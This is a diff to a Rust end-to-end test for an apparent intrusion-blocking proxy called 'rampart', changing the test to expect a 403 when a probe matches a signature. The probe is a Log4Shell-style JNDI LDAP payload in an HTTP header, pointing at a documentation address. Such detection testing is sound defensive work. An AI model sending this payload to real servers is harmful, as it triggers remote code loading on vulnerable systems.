@@ -1,7 +1,7 @@
 //! End-to-end tests of the inline proxy through the real binary on 127.0.0.1: a probe is
-//! detected, the policy turns the alert into a decision, the next request from the address is
-//! blocked; the decision, the inventory and a scrubbed access log survive the stop. And
-//! `rampart demo` on a small simulation.
+//! blocked by its signature, the detectors' alert becomes a decision, and the next ordinary
+//! request from the address is blocked too; the decision, the inventory and a scrubbed access
+//! log survive the stop. And `rampart demo` on a small simulation.
 
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::{SocketAddr, TcpListener, TcpStream};
@@ -157,8 +157,8 @@ fn a_probe_becomes_a_decision_that_blocks_the_address_and_survives_the_stop() {
         "x-api-version: ${jndi:ldap://203.0.113.5:1389/a}\r\n",
     );
     assert_eq!(
-        status, 200,
-        "the probe itself is not known before it is seen"
+        status, 403,
+        "a probe is known by its signature before it is answered"
     );
     // The slow path turns the alert into a decision within a second.
     let deadline = Instant::now() + Duration::from_secs(10);
